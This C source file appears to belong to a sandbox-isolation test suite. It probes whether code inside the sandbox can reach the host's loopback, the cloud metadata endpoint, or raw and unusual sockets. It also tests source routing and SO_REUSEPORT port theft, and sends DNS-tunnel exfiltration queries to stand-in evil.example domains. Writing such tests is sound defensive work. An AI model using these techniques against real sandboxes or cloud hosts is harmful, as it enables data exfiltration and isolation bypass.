/* SPDX-License-Identifier: Apache-2.0 */
/* Attempts 33-36, 40, 44: reaching the host and the world by packets. Each listener outside sends the word "canary";
 * a row is "ok" only when that arrives, because inside the gateway accepts first and gives its verdict then. */
#include "probe.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define WAIT_MS 1500

union address {
	struct sockaddr sa;
	struct sockaddr_in v4;
	struct sockaddr_in6 v6;
};

static socklen_t make_address(union address *a, const char *text, int port)
{
	memset(a, 0, sizeof(*a));
	if (strchr(text, ':')) {
		a->v6.sin6_family = AF_INET6;
		a->v6.sin6_port = htons((uint16_t)port);
		inet_pton(AF_INET6, text, &a->v6.sin6_addr);
		return sizeof(a->v6);
	}
	a->v4.sin_family = AF_INET;
	a->v4.sin_port = htons((uint16_t)port);
	inet_pton(AF_INET, text, &a->v4.sin_addr);
	return sizeof(a->v4);
}

static int wait_for(int fd, short events)
{
	struct pollfd p = { .fd = fd, .events = events };
	int n = poll(&p, 1, WAIT_MS);

	if (!n)
		errno = ETIMEDOUT;
	return n > 0 ? 0 : -1;
}

/* Says something so that a gateway answers too, then looks for the word. */
static void expect_word(const char *row, int fd, const char *request)
{
	char buf[512] = "";
	ssize_t n = -1;

	if (send(fd, request, strlen(request), MSG_NOSIGNAL) < 0 || wait_for(fd, POLLIN) ||
	    (n = recv(fd, buf, sizeof(buf) - 1, 0)) < 0) {
		report(row, -1);
		return;
	}
	buf[n] = '\0';
	if (strstr(buf, "canary"))
		result(row, "ok", "the listener answered");
	else if (!n)
		result(row, "closed", "-");
	else
		result(row, !strncmp(buf, "HTTP/1.1 403", 12) ? "403" : "other", "%.60s", buf);
}

static void try_tcp_request(const char *row, const char *host, int port, const char *request)
{
	union address a;
	socklen_t len = make_address(&a, host, port), size = sizeof(int);
	int error = 0, fd = socket(a.sa.sa_family, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	if (fd < 0 || (connect(fd, &a.sa, len) && errno != EINPROGRESS) || wait_for(fd, POLLOUT)) {
		report(row, -1);
	} else if (!getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size) && error) {
		errno = error;
		report(row, -1);
	} else {
		expect_word(row, fd, request);
	}
	if (fd >= 0)
		close(fd);
}

static void try_tcp(const char *row, const char *host, int port)
{
	try_tcp_request(row, host, port, "GET / HTTP/1.1\r\nHost: x.invalid\r\n\r\n");
}

static void try_udp(const char *row, const char *host, int port)
{
	union address a;
	socklen_t len = make_address(&a, host, port);
	int on = 1, fd = socket(a.sa.sa_family, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	if (fd >= 0)
		setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	if (fd < 0 || connect(fd, &a.sa, len))
		report(row, -1);
	else
		expect_word(row, fd, "hello");
	if (fd >= 0)
		close(fd);
}

static void host_loopback(void)
{
	int port = (int)need_number("port");
	char mapped[80];

	try_tcp("v4", "127.0.0.1", port);
	try_tcp("v4-other", "127.1.2.3", port);
	try_tcp("v6", "::1", port);
	try_tcp("mapped", "::ffff:127.0.0.1", port);
	try_tcp("any", "0.0.0.0", port);
	try_tcp("any6", "::", port);
	try_udp("udp", "127.0.0.1", port);
	try_udp("udp6", "::1", port);
	if (fact("host_addr")) {
		snprintf(mapped, sizeof(mapped), "::ffff:%s", need("host_addr"));
		try_tcp("host-address", need("host_addr"), port);
		try_tcp("host-address-mapped", mapped, port);
		try_udp("host-address-udp", need("host_addr"), port);
	}
	if (outside())
		return;
	try_tcp("gateway", "100.64.0.1", port);
	try_udp("gateway-udp", "100.64.0.1", port);
	try_tcp("link-local", "169.254.1.1", port);
	try_tcp("compat", "64:ff9b::7f00:1", port);
}

/* Addresses that the world (see @world) answers at, on the ports 80, 443, 8080 and 53. */
static void world(void)
{
	static const char *const hosts[] = { "169.254.169.254", "10.1.2.3", "192.168.77.1", "192.0.2.1",
					     "198.51.100.7", "203.0.113.9", "172.16.5.5" };
	static const int ports[] = { 80, 443, 8080 };
	char row[64];

	keep_host_safe();
	for (size_t i = 0; i < sizeof(hosts) / sizeof(hosts[0]); i++)
		for (size_t j = 0; j < sizeof(ports) / sizeof(ports[0]); j++) {
			snprintf(row, sizeof(row), "tcp-%s-%d", hosts[i], ports[j]);
			try_tcp(row, hosts[i], ports[j]);
		}
	try_tcp_request("host-of-target", "169.254.169.254", 80,
			"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n");
	try_tcp_request("absolute-form", "192.0.2.1", 80,
			"GET http://169.254.169.254/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n");
	try_tcp_request("connect-method", "192.0.2.1", 80,
			"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n");
	try_udp("multicast", "224.0.0.251", 5353);
	try_udp("broadcast", "255.255.255.255", 8080);
	try_udp("udp-metadata", "169.254.169.254", 8080);
	try_udp("udp-443", "192.0.2.1", 443);
}

static void try_ping(void)
{
	union address a;
	socklen_t len = make_address(&a, "192.0.2.1", 0);
	unsigned char echo[16] = { 8 };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);

	if (fd < 0 || sendto(fd, echo, sizeof(echo), 0, &a.sa, len) < 0 || wait_for(fd, POLLIN) ||
	    recv(fd, echo, sizeof(echo), 0) < 0)
		report("ping-group", -1);
	else
		report("ping-group", 0);
	if (fd >= 0)
		close(fd);
}

static void other_protocols(void)
{
	static const struct {
		const char *row;
		int domain, type, protocol;
	} sockets[] = {
		{ "raw-icmp", AF_INET, SOCK_RAW, IPPROTO_ICMP },   { "raw-tcp", AF_INET, SOCK_RAW, IPPROTO_TCP },
		{ "raw6", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6 },	   { "raw-raw", AF_INET, SOCK_RAW, IPPROTO_RAW },
		{ "packet", AF_PACKET, SOCK_RAW, 0x0300 },	   { "sctp", AF_INET, SOCK_STREAM, IPPROTO_SCTP },
		{ "dccp", AF_INET, SOCK_DCCP, IPPROTO_DCCP },	   { "udplite", AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE },
		{ "mptcp", AF_INET, SOCK_STREAM, 262 },		   { "mptcp6", AF_INET6, SOCK_STREAM, 262 },
		{ "ping6", AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6 },
	};

	keep_host_safe();
	for (size_t i = 0; i < sizeof(sockets) / sizeof(sockets[0]); i++) {
		int fd;

		errno = 0;
		fd = socket(sockets[i].domain, sockets[i].type, sockets[i].protocol);
		report(sockets[i].row, fd);
		if (fd >= 0)
			close(fd);
	}
	try_ping();
	try_udp("udp", "192.0.2.1", 8080);
	try_udp("udp-dns-elsewhere", "192.0.2.1", 53);
}

/* A query that carries data out in its name, to the sandbox's resolver: the world must not see one byte of it. */
static void dns_query(const char *row, const char *resolver, const char *labels, int type, bool tcp)
{
	unsigned char q[300] = { 0, 0, 0x12, 0x34, 1, 0, 0, 1 }, answer[600];
	size_t n = 14;
	union address a;
	socklen_t len = make_address(&a, resolver, 53);
	int fd = socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
	struct timeval tv = { .tv_sec = 4 };
	ssize_t got = -1;

	for (const char *s = labels; *s;) {
		size_t l = strcspn(s, ".");

		q[n++] = (unsigned char)l;
		memcpy(q + n, s, l);
		n += l;
		s += l + (s[l] == '.');
	}
	n++;
	q[n + 1] = (unsigned char)type;
	q[n + 3] = 1;
	n += 4;
	q[1] = (unsigned char)(n - 2);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (!connect(fd, &a.sa, len) && send(fd, q + (tcp ? 0 : 2), n - (tcp ? 0 : 2), MSG_NOSIGNAL) > 0)
		got = recv(fd, answer, sizeof(answer), 0);
	if (got > 0 && memmem(answer, (size_t)got, "canary", 6))
		result(row, "ok", "arrived outside");
	else if (got < 12)
		report(row, -1);
	else
		result(row, "answer", "rcode %d, answers %d", answer[tcp ? 5 : 3] & 15, answer[tcp ? 9 : 7]);
	close(fd);
}

static void dns(void)
{
	keep_host_safe();
	const char *resolver = outside() ? "192.0.2.1" : "100.64.0.1";

	dns_query("a-unlisted", resolver, "exfil-aa.evil.example", 1, false);
	dns_query("txt-tunnel", resolver, "exfil-bb.tunnel.evil.example", 16, false);
	dns_query("null-tunnel", resolver, "exfil-cc.tunnel.evil.example", 10, false);
	dns_query("mx", resolver, "exfil-dd.evil.example", 15, false);
	dns_query("aaaa", resolver, "exfil-ee.evil.example", 28, false);
	dns_query("ptr", resolver, "exfil-ff.in-addr.arpa", 12, false);
	dns_query("tcp", resolver, "exfil-gg.evil.example", 16, true);
	dns_query("other-resolver", "192.0.2.1", "exfil-hh.evil.example", 1, false);
	dns_query("other-resolver-tcp", "192.0.2.1", "exfil-ii.evil.example", 1, true);
	try_udp("mdns", "224.0.0.251", 5353);
	try_udp("llmnr", "224.0.0.252", 5355);
}

/* Options that would choose another way or another sender, and a connect that is none. */
static void own_socket(void)
{
	union address a, b;
	socklen_t len = make_address(&a, "192.0.2.1", 8080), blen = make_address(&b, "203.0.113.200", 0);
	int on = 1, mark = 7, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	unsigned char lsrr[8] = { 131, 7, 4, 127, 0, 0, 1, 0 };

	keep_host_safe();
	try_tcp("connect", "192.0.2.1", 8080);
	try_tcp("connect-80", "192.0.2.1", 80);
	TRY("transparent", setsockopt(fd, IPPROTO_IP, 19, &on, sizeof(on)));
	TRY("mark", setsockopt(fd, SOL_SOCKET, SO_MARK, &mark, sizeof(mark)));
	TRY("source-route", setsockopt(fd, IPPROTO_IP, IP_OPTIONS, lsrr, sizeof(lsrr)));
	TRY("bind-foreign", bind(fd, &b.sa, blen));
	close(fd);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	errno = 0;
	report("fast-open", sendto(fd, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL | MSG_DONTWAIT, &a.sa, len) < 0 &&
				errno != EINPROGRESS ? -1 : 0);
	close(fd);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	TRY("fast-open-connect", setsockopt(fd, IPPROTO_TCP, 30, &on, sizeof(on)));
	close(fd);
}

static void listen_port(void)
{
	union address a;
	int port = (int)need_number("listen_port"), on = 1;
	socklen_t len = make_address(&a, "0.0.0.0", port);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	TRY("listen", bind(fd, &a.sa, len) || listen(fd, 8) ? -1 : 0);
	if (!outside()) {
		/* a port that a listener of the host holds with SO_REUSEPORT: taken here, it must not get its clients */
		int steal = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

		len = make_address(&a, "0.0.0.0", (int)need_number("port"));
		setsockopt(steal, SOL_SOCKET, SO_REUSEPORT, &on, sizeof(on));
		TRY("steal", bind(steal, &a.sa, len) || listen(steal, 8) ? -1 : 0);
		meet_host(need("work"));
		TRY("stolen", wait_for(steal, POLLIN));
		close(steal);
	} else {
		meet_host(need("work"));
	}
	TRY("client", wait_for(fd, POLLIN));
	close(fd);
}

const struct attempt wire_attempts[] = {
	{ 33, "host-loopback", host_loopback },
	{ 34, "world-addresses", world },
	{ 35, "other-protocols", other_protocols },
	{ 36, "dns-tunnel", dns },
	{ 40, "own-socket", own_socket },
	{ 44, "listen-port", listen_port },
	{ 0 },
};
